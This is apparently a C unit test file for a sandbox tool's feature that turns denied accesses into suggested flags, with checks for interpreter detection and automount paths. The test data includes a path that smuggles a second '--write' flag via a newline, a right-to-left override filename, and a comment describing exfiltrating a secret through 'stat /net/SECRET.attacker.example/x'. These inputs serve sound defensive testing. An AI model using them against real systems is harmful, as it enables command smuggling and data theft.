/* SPDX-License-Identifier: Apache-2.0 */
/* From denials to few lines: tables of what was denied and what is named. What is denied at all is
 * shown by tests/e2e/test-run-explain.sh, with a sandbox. */
#include "test/unit.h"

#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/array.h"
#include "cli/explain/internal.h"

enum { ROWS_MAX = 16 };

/* "r /path": read, "w": write, "x": run; a slash at the end: a folder; "?": it was only looked for;
 * "~": quiet. */
struct row {
	const char *name;
	const char *denied[ROWS_MAX];
	const char *lines[ROWS_MAX]; /* what is named, in this order */
};

static const struct row rows[] = {
	{ "one file", { "r /srv/a" }, { "--read /srv/a" } },
	{ "two files", { "r /srv/d/a", "r /srv/d/b" }, { "--read /srv/d/b", "--read /srv/d/a" } },
	{ "three files of a folder", { "r /srv/d/a", "r /srv/d/b", "r /srv/d/c" },
		{ "--read /srv/d" } },
	{ "a folder and what is in it", { "r /srv/d/", "r /srv/d/e/f" }, { "--read /srv/d" } },
	{ "a name that only begins alike", { "r /srv/d/", "r /srv/de" },
		{ "--read /srv/de", "--read /srv/d" } },
	{ "a folder on the way", { "r? /srv/", "r? /srv/d/", "r /srv/d/e/f" },
		{ "--read /srv/d/e/f" } },
	{ "a folder on the way to nothing", { "r? /srv/d/" }, { "--read /srv/d" } },
	{ "writing includes reading", { "r /srv/d/a", "w /srv/d/" }, { "--write /srv/d" } },
	{ "but not the other way", { "w /srv/d/a", "r /srv/d/" },
		{ "--read /srv/d", "--write /srv/d/a" } },
	{ "both of one file", { "r /srv/a", "w /srv/a" }, { "--write /srv/a" } },
	{ "a library", { "r /opt2/x/lib/libone.so.1" }, { "--read /opt2/x/lib" } },
	{ "a module", { "r /opt2/x/js/main.mjs" }, { "--read /opt2/x/js" } },
	{ "a package", { "r /opt2/x/package.json" }, { "--read /opt2/x" } },
	{ "no library", { "r /opt2/x/notes.source" }, { "--read /opt2/x/notes.source" } },
	{ "a module that is to be written", { "w /opt2/x/main.js" },
		{ "--write /opt2/x/main.js" } },
	{ "many folders in one", { "r /srv/m/a/", "r /srv/m/b/", "r /srv/m/c/", "r /srv/m/d/" },
		{ "--read /srv/m" } },
	{ "files of the home", { "r /home/u/a", "r /home/u/b", "r /home/u/c" },
		{ "--read /home/u/c", "--read /home/u/b", "--read /home/u/a" } },
	{ "a module in the home", { "r /home/u/a.py" }, { "--read /home/u/a.py" } },
	{ "folders of the home", { "r /home/u/a/", "r /home/u/b/", "r /home/u/c/", "r /home/u/d/" },
		{ "--read /home/u/d", "--read /home/u/c", "--read /home/u/b",
			"--read /home/u/a" } },
	{ "files of a folder of the root", { "r /top/a", "r /top/b", "r /top/c" },
		{ "--read /top/c", "--read /top/b", "--read /top/a" } },
	{ "the home and what holds it", { "r /home/", "r /home/u/", "r /", "r /srv/a" },
		{ "--read /srv/a", "", "", "" } },
	{ "what is open comes before what was looked for", { "r /srv/d/a", "r? /srv/e/b" },
		{ "--read /srv/d/a", "--read /srv/e/b" } },
	{ "what is quiet comes last", { "r~ /sys/a", "r? /srv/e/b" },
		{ "--read /srv/e/b", "--read /sys/a" } },
	{ "what a rule forbids stands alone", { "r /srv/no/a", "r /srv/no/b", "r /srv/no/c" },
		{ "remove or narrow policy:7: /srv/no/**", "remove or narrow policy:7: /srv/no/**",
			"remove or narrow policy:7: /srv/no/**" } },
	{ "what the baseline forbids", { "r /home/u/.ssh/id_rsa" },
		{ "the baseline protects it; if you mean it: --read /home/u/.ssh/id_rsa "
		  "--dangerously-allow /home/u/.ssh/id_rsa" } },
	{ "words that a shell would take apart", { "r /srv/a b/it's" },
		{ "--read '/srv/a b/it'\\''s'" } },
	{ "wildcards that are none", { "r /srv/a*/", "r /srv/[b]" },
		{ "--read '/srv/\\[b\\]'", "--read '/srv/a\\*/**'" } },
	{ "a variable that is none", { "r /srv/$HOME", "w /srv/$HOME/" },
		{ "--write '/srv/\\$HOME/**'" } },
	{ "what cannot be seen is spelled out", { "r /srv/a\n--write '/\\" },
		{ "--read $'/srv/a\\012--write \\'/\\\\\\\\'" } },
	{ "what reads the other way round",
		{ "r /srv/\xe2\x80\xae"
		  "txt.a" },
		{ "--read $'/srv/\\342\\200\\256txt.a'" } },
	{ "a program is itself only", { "x /srv/bin/*", "x /srv/$HOME", "x /srv/a b:*" },
		{ "--exec '/srv/a\\ b:\\*'", "--exec '/srv/\\$HOME'", "--exec '/srv/bin/\\*'" } },
	{ "a program by a name that would be a pattern", { "x /usr/bin/[" }, { "--exec '\\['" } },
	{ "homes of others", { "r /home/v/", "w /root/", "r /home/v/d/" },
		{ "--read /home/v/d", "", "" } },
	{ "a socket that no policy can name", { "c unix:/run/*" }, { "" } },
	{ "a host", { "c api.example.com:8443" }, { "--net api.example.com:8443" } },
	{ "a socket", { "c unix:/run/door" },
		{ "--net unix:/run/door (the program behind it is not confined, and does for the "
		  "command "
		  "what it does for you)" } },
};

static void add(struct denials *l, struct arena *a, const char *text, uint64_t at)
{
	static const char kinds[] = "rwxc";
	const char *path = strchr(text, ' ') + 1;
	size_t len = strlen(path);
	struct denial d = { .kind = (enum denial_kind)(strchr(kinds, text[0]) - kinds),
		.is_look = text[1] == '?',
		.is_quiet = text[1] == '~',
		.is_folder = path[len - 1] == '/',
		.program = "",
		.count = 1,
		.last = at };

	d.path = arena_strndup(a, path, d.is_folder && len > 1 ? len - 1 : len);
	assert_non_null(d.path);
	assert_int_equal(ARENA_PUSH(a, l->items, l->n, l->cap, d), 0);
}

static void check(const struct run *r, const struct row *row)
{
	auto_arena a = { 0 };
	struct denials from = { 0 }, groups = { 0 };
	size_t n = 0;

	for (size_t i = 0; i < ROWS_MAX && row->denied[i]; i++)
		add(&from, &a, row->denied[i], i);
	while (n < ROWS_MAX && row->lines[n])
		n++;
	assert_int_equal(run_explain_group(r, &from, &a, &groups), 0);
	if (groups.n != n)
		print_error("%s: %zu lines\n", row->name, groups.n);
	for (size_t i = 0; i < groups.n && i < n; i++) {
		auto_words w = { 0 };

		run_explain_words(r, &groups.items[i], &w);
		if (strcmp(buffer_text(&w.line), row->lines[i]) != 0)
			print_error("%s: %s\n", row->name, buffer_text(&w.line));
		assert_string_equal(buffer_text(&w.line), row->lines[i]);
	}
	assert_int_equal(groups.n, n);
}

static void make_run(struct run *r)
{
	const struct location where = { .file = "policy", .line = 7 };
	struct permissions *p = permissions_new();
	struct policy_options options;

	assert_non_null(p);
	assert_int_equal(permissions_add(p, &p->fs_read, "/usr/**", &where), 0);
	assert_int_equal(permissions_add(p, &p->fs_deny, "/srv/no/**", &where), 0);
	r->load.variables.values[VARIABLE_HOME] = "/home/u";
	r->load.variables.values[VARIABLE_WORK_DIR] = "/home/u/work";
	r->base[r->n_base++] = p;
	options = (struct policy_options){ .variables = &r->load.variables };
	assert_int_equal(policy_new(&r->policy, (const struct permissions *const *)r->base, 1,
				 &options, NULL),
		0);
	assert_int_equal(run_explain_new(&r->explain, r), 0);
}

static void free_run(struct run *r)
{
	run_explain_free(r->explain);
	policy_free(r->policy);
	permissions_free(r->base[0]);
}

static void names_few_lines(void **state)
{
	static struct run r;

	(void)state;
	make_run(&r);
	for (size_t i = 0; i < ROWS(rows); i++)
		check(&r, &rows[i]);
	free_run(&r);
}

/* What the relay said: the name of a host has the port that the command has. */
static void hears_hosts(void **state)
{
	static struct run r;
	const char *argv[] = { "curl", "http://one.test/", "https://two.test:8443/x",
		"three.test:99999", NULL };
	const char *const names[][2] = { { "one.test", "one.test:80" },
		{ "two.test", "two.test:8443" }, { "three.test", "three.test:443" },
		{ "four.test", "four.test:443" } };

	(void)state;
	make_run(&r);
	r.argv = argv;
	r.n_argv = 4;
	for (size_t i = 0; i < ROWS(names); i++) {
		const struct record record = { .kind = RECORD_DENIED,
			.dns = true,
			.target = names[i][0],
			.name = names[i][0],
			.reason = "",
			.remedy = "",
			.program = "" };

		run_explain_heard(r.explain, &record);
		run_explain_heard(r.explain, &record);
		assert_int_equal(run_explain_denials(&r)->n, i + 1);
		assert_string_equal(run_explain_denials(&r)->items[i].path, names[i][1]);
		assert_int_equal(run_explain_denials(&r)->items[i].count, 2);
		assert_true(run_explain_denials(&r)->items[i].is_exact);
	}
	run_explain_heard(NULL, &(struct record){ .kind = RECORD_DENIED });
	free_run(&r);
}

/* More than are kept: the rest is counted. */
static void keeps_a_bound(void **state)
{
	static struct run r;
	char name[64];

	(void)state;
	make_run(&r);
	for (unsigned i = 0; i < DENIALS_MAX + 1000; i++) {
		(void)snprintf(name, sizeof(name), "%u.test:443", i);
		run_explain_heard(r.explain, &(struct record){ .kind = RECORD_DENIED,
						     .target = name,
						     .reason = "",
						     .remedy = "",
						     .program = "" });
	}
	assert_int_equal(run_explain_denials(&r)->n, DENIALS_MAX);
	assert_int_equal(run_explain_missed(&r), 1000);
	free_run(&r);
}

/* What runs a file: scripts, programs, and files that somebody made to look like either. */

struct file {
	const char *name;
	const char *text; /* a script; or NULL: a program */
	Elf64_Half n;
	Elf64_Off table, at; /* of the headers; of the loader's name */
	Elf64_Xword size;    /* of the name */
	const char *loader;
	enum explain_interpreter want;
	const char *wanted;
};

#define TABLE sizeof(Elf64_Ehdr)
#define NAME (sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr))

static const struct file files[] = {
	{ .name = "a script", .text = "#!/bin/sh\n", .want = EXPLAIN_SCRIPT, .wanted = "/bin/sh" },
	{ .name = "with an argument",
		.text = "#! /bin/sh -x\n",
		.want = EXPLAIN_SCRIPT,
		.wanted = "/bin/sh" },
	{ .name = "without an end",
		.text = "#!/bin/sh",
		.want = EXPLAIN_SCRIPT,
		.wanted = "/bin/sh" },
	{ .name = "without a program", .text = "#!\n\n\n" },
	{ .name = "not from the root", .text = "#!sh\nx" },
	{ .name = "too short", .text = "#!" },
	{ .name = "empty", .text = "" },
	{ .name = "text", .text = "hello" },
	{ .name = "a program",
		.n = 1,
		.table = TABLE,
		.at = NAME,
		.size = 7,
		.loader = "/ld.so",
		.want = EXPLAIN_LOADER,
		.wanted = "/ld.so" },
	{ .name = "more headers than there are",
		.n = 2,
		.table = TABLE,
		.at = NAME,
		.size = 7,
		.loader = "/ld.so" },
	{ .name = "too many headers",
		.n = 65535,
		.table = TABLE,
		.at = NAME,
		.size = 7,
		.loader = "/ld.so" },
	{ .name = "no headers", .n = 0, .table = TABLE, .at = NAME, .size = 7, .loader = "/ld.so" },
	{ .name = "headers far away",
		.n = 1,
		.table = UINT64_MAX - 7,
		.at = NAME,
		.size = 7,
		.loader = "/ld.so" },
	{ .name = "a name far away",
		.n = 1,
		.table = TABLE,
		.at = UINT64_MAX,
		.size = 7,
		.loader = "/ld.so" },
	{ .name = "a name without an end",
		.n = 1,
		.table = TABLE,
		.at = NAME,
		.size = 6,
		.loader = "/ld.so" },
	{ .name = "a name that is too long",
		.n = 1,
		.table = TABLE,
		.at = NAME,
		.size = 1 << 20,
		.loader = "/ld.so" },
	{ .name = "no name", .n = 1, .table = TABLE, .at = NAME, .size = 0, .loader = "" },
	{ .name = "not from the root",
		.n = 1,
		.table = TABLE,
		.at = NAME,
		.size = 6,
		.loader = "ld.so" },
};

static void write_file(int fd, const struct file *f)
{
	const Elf64_Phdr header = { .p_type = PT_INTERP, .p_offset = f->at, .p_filesz = f->size };
	Elf64_Ehdr head = { .e_ident = { 0x7f, 'E', 'L', 'F', ELFCLASS64 },
		.e_phoff = f->table,
		.e_phentsize = sizeof(header),
		.e_phnum = f->n };

	assert_int_equal(ftruncate(fd, 0), 0);
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	if (f->text) {
		assert_int_equal(write(fd, f->text, strlen(f->text)), strlen(f->text));
		return;
	}
	assert_int_equal(write(fd, &head, sizeof(head)), sizeof(head));
	assert_int_equal(write(fd, &header, sizeof(header)), sizeof(header));
	assert_int_equal(write(fd, f->loader, strlen(f->loader) + 1), strlen(f->loader) + 1);
}

static void finds_interpreters(void **state)
{
	char path[] = "/tmp/corral-explain-XXXXXX", out[PATH_BYTES];
	int fd = mkstemp(path);

	(void)state;
	assert_true(fd >= 0);
	for (size_t i = 0; i < ROWS(files); i++) {
		enum explain_interpreter got;

		write_file(fd, &files[i]);
		got = run_explain_interpreter(path, out);
		if (got != files[i].want)
			print_error("%s\n", files[i].name);
		assert_int_equal(got, files[i].want);
		if (got != EXPLAIN_NO_INTERPRETER)
			assert_string_equal(out, files[i].wanted);
	}
	close(fd);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
}

/* A command may put something else in its place, after it was looked at: what that leads to, or is,
 * must not be opened for it. */
static void opens_plain_files_only(void **state)
{
	char folder[] = "/tmp/corral-explain-XXXXXX", file[64], path[64], out[PATH_BYTES];
	int fd;

	(void)state;
	assert_non_null(mkdtemp(folder));
	(void)snprintf(file, sizeof(file), "%s/file", folder);
	(void)snprintf(path, sizeof(path), "%s/path", folder);
	fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "#!/bin/sh\n", 10), 10);
	close(fd);
	assert_int_equal(run_explain_interpreter(file, out), EXPLAIN_SCRIPT);
	assert_int_equal(symlink(file, path), 0);
	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(mkfifo(path, 0600), 0);
	fd = open(path, O_RDWR | O_CLOEXEC);
	assert_int_equal(write(fd, "#!/bin/sh\n", 10), 10);
	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
	close(fd);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(unlink(file), 0);
	assert_int_equal(rmdir(folder), 0);
}

/* The attack: "stat /net/SECRET.attacker.example/x", where the host's automounter asks for it. */
static void knows_names_that_act(void **state)
{
	static const char list[] = "22 1 8:1 / / rw,relatime shared:1 - ext4 /dev/sda1 rw\n"
				   "30 22 0:5 / /net rw - autofs -hosts rw,fd=7\n"
				   "31 30 0:6 / /net/known rw shared:2 master:3 - nfs known:/ rw\n"
				   "32 22 0:7 / /mnt/the\\040nas rw - autofs systemd-1 rw\n"
				   "33 22 0:8 / /home rw - autofs auto.home rw\n"
				   "34 33 0:9 / /home rw - nfs4 server:/home rw\n"
				   "35 22 0:9 / /afs rw - afs none rw\n"
				   "36 22 0:9 / /broken rw\n"
				   "37 22\n";
	static const struct {
		const char *path;
		bool acts;
	} paths[] = { { "/", false }, { "/net", true }, { "/net/secret.example/x", true },
		{ "/network", false }, { "/net/known/x", false }, { "/mnt/the nas/x", true },
		{ "/mnt", false }, { "/home/u", false }, { "/afs/cell.example", true },
		{ "/broken", false } };
	auto_arena a = { 0 };
	struct explain_mounts m;

	(void)state;
	assert_int_equal(run_explain_mounts_read(&m, &a, list), 0);
	for (size_t i = 0; i < ROWS(paths); i++) {
		if (run_explain_mounts_act(&m, paths[i].path) != paths[i].acts)
			print_error("%s\n", paths[i].path);
		assert_int_equal(run_explain_mounts_act(&m, paths[i].path), paths[i].acts);
	}
	assert_int_equal(run_explain_mounts_read(&m, &a, ""), 0);
	assert_false(run_explain_mounts_act(&m, "/net/x"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(names_few_lines),
		cmocka_unit_test(hears_hosts),
		cmocka_unit_test(keeps_a_bound),
		cmocka_unit_test(finds_interpreters),
		cmocka_unit_test(opens_plain_files_only),
		cmocka_unit_test(knows_names_that_act),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
